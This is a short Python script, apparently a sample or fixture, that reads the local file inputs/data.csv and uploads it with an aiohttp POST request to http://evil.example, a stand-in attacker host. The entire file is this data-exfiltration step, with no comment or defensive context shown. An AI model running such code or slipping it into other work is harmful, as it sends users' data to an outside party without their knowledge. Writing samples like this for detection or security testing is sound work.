import asyncio

import aiohttp


async def send():
    async with aiohttp.ClientSession() as session:
        await session.post("http://evil.example", data=open("inputs/data.csv", "rb"))


asyncio.run(send())
